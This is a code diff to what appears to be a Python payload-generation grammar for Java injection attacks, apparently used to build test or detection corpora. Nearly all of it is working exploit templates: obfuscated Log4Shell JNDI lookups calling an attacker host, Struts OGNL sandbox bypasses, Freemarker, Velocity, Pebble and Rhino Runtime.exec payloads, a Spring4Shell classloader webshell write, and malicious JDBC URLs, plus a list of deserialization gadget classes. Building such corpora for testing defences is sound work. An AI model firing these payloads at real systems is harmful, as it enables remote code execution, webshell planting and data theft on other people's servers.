@@ -1,17 +1,17 @@
 """Java code injection: OGNL, SpEL, EL, MVEL, Groovy, JNDI look-ups, Velocity, Freemarker, reflection, class names."""
 
 TEXT = r"""
-java := *6 «jndi» ¦ *5 «ognl» ¦ *4 «spel» ¦ *3 «velocity» ¦ *3 «freemarker» ¦ *3 «groovy» ¦ *5 «java_words»
-  ¦ *2 «java_code» ¦ *2 «classloader» ¦ «thymeleaf» ¦ «mvel» ¦ «pebble» ¦ «rhino» ¦ «jxpath»
+java := @2021 *6 «jndi» ¦ *5 «ognl» ¦ *4 «spel» ¦ *3 «velocity» ¦ *3 «freemarker» ¦ *3 «groovy» ¦ *5 «java_words»
+  ¦ *2 «java_code» ¦ *2 «classloader» ¦ «thymeleaf» ¦ «mvel» ¦ «pebble» ¦ «rhino» ¦ @2022 «jxpath»
 jndi := *4 ${jndi:«jndi_url»} ¦ *3 ${«jndi_obf»:«jndi_url»} ¦ ${jndi:«jndi_url»/${«leak»}}
   ¦ *2 ${${«=lower:j~::-j~upper:j~env:X:-j~:-j~sys:y:-j»}«=ndi~n${lower:d}i~${::-n}di~${lower:n}di»:«jndi_url»}
   ¦ ${«jndi_obf»:${«=lower:l~::-l~upper:l»}dap://«attacker»/«rand»}
   ¦ ${jndi:${lower:l}${lower:d}a${lower:p}://«zone»/«ab»} ¦ ${jndi:«jndi_scheme»:${::-/}/«attacker»/«rand»}
   ¦ $%7Bjndi:«jndi_url»%7D ¦ %24%7Bjndi%3A«jndi_url|url»%7D ¦ ${«jndi_obf»:«jndi_obf2»://${hostName}.«zone»/«ab»}
-  ¦ ${jndi:«jndi_scheme»://127.0.0.1#«zone»/«ab»} ¦ ${ctx:«word»} ¦ ${«leak»} ¦ ${script:javascript:«rhino_code»}
-  ¦ ${script:javascript:java.lang.Runtime.getRuntime().exec('«unix_cmd»')} ¦ ${dns:address|«zone»} ¦ ${url:UTF-8:«url»}
-  ¦ ${const:java.awt.event.KeyEvent.VK_ESCAPE} ¦ ${file:UTF-8:«unix_file»} ¦ ${base64Decoder:«rand|b64»}
-  ¦ ${jnd${123%25ff:-${123%25ff:-i:}}«jndi_url»}
+  ¦ ${jndi:«jndi_scheme»://127.0.0.1#«zone»/«ab»} ¦ ${ctx:«word»} ¦ ${«leak»} ¦ @2022 ${script:javascript:«rhino_code»}
+  ¦ @2022 ${script:javascript:java.lang.Runtime.getRuntime().exec('«unix_cmd»')} ¦ @2022 ${dns:address|«zone»}
+  ¦ @2022 ${url:UTF-8:«url»} ¦ @2022 ${const:java.awt.event.KeyEvent.VK_ESCAPE} ¦ @2022 ${file:UTF-8:«unix_file»}
+  ¦ @2022 ${base64Decoder:«rand|b64»} ¦ ${jnd${123%25ff:-${123%25ff:-i:}}«jndi_url»}
   ¦ ${j${k8s:k5:-ND}${sd:k5:-${123%25ff:-${123%25ff:-${upper:ı}:}}}«jndi_url»} ¦ \u0024{jndi:«jndi_url»}
   ¦ ${${env:«coined|upper»:-jndi}:«jndi_url»} ¦ ${j${}ndi:«jndi_url»}
 jndi_obf := jndi ¦ «=jndi~jndi~JNDI|log» ¦ j${lower:n}di ¦ ${lower:j}${lower:n}${lower:d}i
@@ -57,14 +57,14 @@ ognl := *3 %{«ognl_body»} ¦ *3 ${«ognl_body»} ¦ *2 %25{«ognl_body»} ¦ *
   ¦ "${Class.forName('java.lang.«=Runtime~System~Math»').getMethods()}"
   ¦ {#«ab»=new java.io.FileWriter(#application.getRealPath('/')+'/«rand».jsp')}
   ¦ aaaaaaaa\u0027%2b{Class.forName(\u0027javax.script.ScriptEngineManager\u0027).newInstance().getEngineByName(\u0027JavaScript\u0027).\u0065val(\u0027«int»*«int»\u0027)}%2b\u0027
-ognl_body := *3 (#dm=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS).(#_memberAccess?(#_memberAccess=#dm):((#container=#context['com.opensymphony.xwork2.ActionContext.container']).(#ognlUtil=#container.getInstance(@com.opensymphony.xwork2.ognl.OgnlUtil@class)).(#ognlUtil.getExcludedPackageNames().clear()).(#context.setMemberAccess(#dm)))).«ognl_exec»
+ognl_body := @2017 *3 (#dm=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS).(#_memberAccess?(#_memberAccess=#dm):((#container=#context['com.opensymphony.xwork2.ActionContext.container']).(#ognlUtil=#container.getInstance(@com.opensymphony.xwork2.ognl.OgnlUtil@class)).(#ognlUtil.getExcludedPackageNames().clear()).(#context.setMemberAccess(#dm)))).«ognl_exec»
   ¦ *2 #_memberAccess["allowStaticMethodAccess"]=true,«ognl_exec» ¦ *2 «ognl_exec»
   ¦ #context["xwork.MethodAccessor.denyMethodExecution"]=false,#f=#_memberAccess.getClass().getDeclaredField("allowStaticMethodAccess"),#f.setAccessible(true),#f.set(#_memberAccess,true),«ognl_exec»
   ¦ #req=#context.get('com.opensymphony.xwork2.dispatcher.HttpServletRequest'),#res=#context.get('com.opensymphony.xwork2.dispatcher.HttpServletResponse'),#res.getWriter().print("«rand»"),#res.getWriter().close()
   ¦ #context['com.opensymphony.xwork2.dispatcher.HttpServletResponse'].addHeader('«coined|cap»','«rand»')
   ¦ #«ab»=new java.lang.ProcessBuilder(new java.lang.String[]{'«unix_bin»','«unix_file»'}).start().getInputStream(),#«ab»=new java.io.InputStreamReader(#«ab»)
-  ¦ #instancemanager=#application["org.apache.tomcat.InstanceManager"],#bean=#instancemanager.newInstance("org.apache.commons.collections.BeanMap"),#bean.setBean(#stack)
-  ¦ #application.get('org.apache.tomcat.InstanceManager').newInstance('freemarker.template.utility.Execute').exec({'«unix_info»'})
+  ¦ @2020 #instancemanager=#application["org.apache.tomcat.InstanceManager"],#bean=#instancemanager.newInstance("org.apache.commons.collections.BeanMap"),#bean.setBean(#stack)
+  ¦ @2020 #application.get('org.apache.tomcat.InstanceManager').newInstance('freemarker.template.utility.Execute').exec({'«unix_info»'})
   ¦ @java.lang.Thread@sleep(«int») ¦ #a=«int»*«int» ¦ «int»*«int» ¦ @java.lang.System@getProperty('os.name')
   ¦ @java.lang.Math@max(«int»,«int») ¦ #parameters.«word»[0] ¦ #session['«word»'] ¦ new java.lang.String('«rand»')
   ¦ #attr['«word»']
@@ -102,8 +102,8 @@ velocity := *2 #set($e="e")$e.getClass().forName("java.lang.Runtime").getMethod(
   ¦ #set($«$v:word»="«rand»")${«$v»} ¦ #include("«unix_path»") ¦ #parse("«climb3»«app_file»") ¦ $request.getSession()
   ¦ #evaluate("$«word»") ¦ $session.getServletContext().getClassLoader().loadClass("java.lang.Runtime")
   ¦ #{set}($«ab»=$«word».getClass())
-  ¦ {"params.resource.template.enabled":"true","params.resource.loader.enabled":"true"}
-  ¦ {{velocity}}#set($x=«int»+«int»)$x{{/velocity}} ¦ #if($«word»)#end ¦ $!{«word».class}
+  ¦ {"params.resource.template.enabled":"true","params.resource.loader.enabled":"true"} ¦ #if($«word»)#end
+  ¦ $!{«word».class}
 freemarker := *3 <#assign «$v:ab»="freemarker.template.utility.Execute"?new()>${«$v»("«java_cmd»")}
   ¦ *2 ${"freemarker.template.utility.Execute"?new()("«java_cmd»")}
   ¦ [#assign «$v:ab»='freemarker.template.utility.Execute'?new()]${«$v»('«java_cmd»')}
@@ -129,8 +129,8 @@ thymeleaf := __${«exec»}__::.x ¦ ;/__${T(java.lang.Runtime).getRuntime().exec
 mvel := import java.io.*;new java.util.Scanner(«exec») ¦ @{«exec»} ¦ «word»=«exec»;«word» ¦ if («int»==«int»){«exec»}
   ¦ new java.lang.ProcessBuilder("«unix_bin»").start(); ¦ with(«word»){«word»=«exec»}
 pebble := {{ variable.getClass().forName('java.lang.Runtime').getRuntime().exec('«java_cmd»') }}
-  ¦ {{ (1).TYPE.forName('java.lang.Runtime').methods[6].invoke(null,null).exec('«java_cmd»') }}
-  ¦ {% set cmd = '«unix_info»' %}{% set bytes = (1).TYPE %}
+  ¦ @2020 {{ (1).TYPE.forName('java.lang.Runtime').methods[6].invoke(null,null).exec('«java_cmd»') }}
+  ¦ @2020 {% set cmd = '«unix_info»' %}{% set bytes = (1).TYPE %}
   ¦ {{'a'.getClass().forName('javax.script.ScriptEngineManager').newInstance().getEngineByName('JavaScript').eval("«rhino_code»")}}
   ¦ {{ beans.get("«word»") }} ¦ {{request.getClass()}}
 rhino_code := java.lang.Runtime.getRuntime().exec('«java_cmd»')
@@ -143,13 +143,13 @@ rhino := function(value){return «rhino_code»}
   ¦ Packages.java.lang.Runtime.getRuntime().exec("«java_cmd»")
   ¦ importPackage(java.lang);Runtime.getRuntime().exec("«java_cmd»")
   ¦ {"type":"javascript","function":"function(){«rhino_code»}"} ¦ javascript:«rhino_code»
-jxpath := exec(java.lang.Runtime.getRuntime(),'«java_cmd»') ¦ javax.naming.InitialContext.doLookup('«jndi_url»')
+jxpath := @2024 exec(java.lang.Runtime.getRuntime(),'«java_cmd»') ¦ javax.naming.InitialContext.doLookup('«jndi_url»')
   ¦ java.lang.Thread.sleep(«int») ¦ org.springframework.context.support.ClassPathXmlApplicationContext.new("«url».xml")
   ¦ java.lang.System.exit(1)
-classloader := *2 class.module.classLoader.resources.context.parent.pipeline.first.«=pattern~suffix~directory~prefix~fileDateFormat»=«rand»
-  ¦ class.module.classLoader.resources.context.parent.pipeline.first.pattern=%25%7Bc2%7Di+if(%22«ab»%22.equals(request.getParameter(%22pwd%22)))&class.module.classLoader.resources.context.parent.pipeline.first.suffix=.jsp
+classloader := @2022 *2 class.module.classLoader.resources.context.parent.pipeline.first.«=pattern~suffix~directory~prefix~fileDateFormat»=«rand»
+  ¦ @2022 class.module.classLoader.resources.context.parent.pipeline.first.pattern=%25%7Bc2%7Di+if(%22«ab»%22.equals(request.getParameter(%22pwd%22)))&class.module.classLoader.resources.context.parent.pipeline.first.suffix=.jsp
   ¦ class.classLoader.URLs[0]=jar:«url».jar!/ ¦ class['classLoader'].resources.dirContext.docBase=//«attacker»/«ab»
-  ¦ Class.classLoader.defaultAssertionStatus=«rand» ¦ class.module.classLoader.DefaultAssertionStatus=«rand»
+  ¦ Class.classLoader.defaultAssertionStatus=«rand» ¦ @2022 class.module.classLoader.DefaultAssertionStatus=«rand»
   ¦ «word».class.classLoader.«name»=«rand» ¦ top['class']['classLoader'].«name»=«d»
   ¦ class.protectionDomain.codeSource.location=«rand» ¦ getClass().getClassLoader().loadClass("«java_class»")
 java_code := «exec»; ¦ <% «exec»; %> ¦ <%=«exec»%>
@@ -163,14 +163,23 @@ java_code := «exec»; ¦ <% «exec»; %> ¦ <%=«exec»%>
   ¦ (new org.springframework.context.support.FileSystemXmlApplicationContext("«url».xml"))
   ¦ CREATE ALIAS «coined|upper» AS $$ String x(String c) throws Exception {«exec»;return "";}$$
   ¦ jdbc:h2:mem:«word»;TRACE_LEVEL_SYSTEM_OUT=3;INIT=RUNSCRIPT FROM '«url».sql'
-  ¦ jdbc:h2:mem:;init=CREATE TRIGGER «ab» BEFORE SELECT ON INFORMATION_SCHEMA.TABLES AS $$//javascript«nl»«rhino_code»$$
-  ¦ jdbc:postgresql://«attacker»/?socketFactory=org.springframework.context.support.ClassPathXmlApplicationContext&socketFactoryArg=«url».xml
+  ¦ @2023 jdbc:h2:mem:;init=CREATE TRIGGER «ab» BEFORE SELECT ON INFORMATION_SCHEMA.TABLES AS $$//javascript«nl»«rhino_code»$$
+  ¦ @2022 jdbc:postgresql://«attacker»/?socketFactory=org.springframework.context.support.ClassPathXmlApplicationContext&socketFactoryArg=«url».xml
   ¦ jdbc:mysql://«attacker»:3306/«word»?allowLoadLocalInfile=true&autoDeserialize=true
-java_words := *4 «java_class» ¦ *2 «java_class».«java_method»(«=~1~"x"~null») ¦ «java_class».class
+java_words := *4 «java_class» ¦ *2 «java_short» ¦ «java_short».«java_method»() ¦ «java_short» «java_method»
+  ¦ «word»=«java_short»;«java_short» ¦ *2 «java_class».«java_method»(«=~1~"x"~null») ¦ «java_class».class
   ¦ «java_method»(«java_class») ¦ {"«word»":"«java_class»"} ¦ «java_class|b64» ¦ «word».«java_method»()
   ¦ new «java_class»() ¦ import «java_class»; ¦ «java_class»@«hex8» ¦ @«java_class»@«java_method» ¦ T(«java_class»)
   ¦ «java_class»;«java_class» ¦ («java_class»)«word» ¦ «java_class».«java_method»("«java_cmd»") ¦ «java_class|case»
   ¦ «word»=«java_class» ¦ <«java_class»>«rand»</«java_class»>
+java_short := Runtime ¦ ProcessBuilder ¦ ClassLoader ¦ URLClassLoader ¦ ScriptEngineManager ¦ InvokerTransformer
+  ¦ ChainedTransformer ¦ ConstantTransformer ¦ CloneTransformer ¦ InstantiateTransformer ¦ InstantiateFactory
+  ¦ PrototypeCloneFactory ¦ PrototypeSerializationFactory ¦ ForClosure ¦ WhileClosure ¦ LazyMap ¦ TransformedMap
+  ¦ XMLDecoder ¦ ObjectInputStream ¦ FileWriter ¦ FileOutputStream ¦ MethodUtils ¦ ObjectFactory ¦ BeanShell ¦ Nashorn
+  ¦ SpelExpressionParser ¦ StandardEvaluationContext ¦ VelocityEngine ¦ OgnlContext ¦ ValueStack ¦ MemberAccess
+  ¦ getRuntime().exec ¦ getClass().forName ¦ clazz.newInstance ¦ Unsafe.defineClass ¦ JdbcRowSetImpl ¦ TemplatesImpl
+  ¦ BasicDataSource ¦ BeanComparator ¦ MBeanServer ¦ InitialContext ¦ @2021 JndiLookup ¦ PythonInterpreter ¦ GroovyShell
+  ¦ JexlEngine ¦ MVEL.eval ¦ ELProcessor ¦ FacesContext ¦ ServletActionContext
 java_class := *4 java.lang.Runtime ¦ *3 java.lang.ProcessBuilder ¦ *2 java.lang.System ¦ java.lang.Class
   ¦ java.lang.ClassLoader ¦ java.lang.Thread ¦ java.lang.Process ¦ java.lang.ProcessImpl ¦ java.lang.UNIXProcess
   ¦ java.lang.Shutdown ¦ java.lang.Compiler ¦ java.lang.String ¦ java.lang.Object ¦ java.lang.Integer
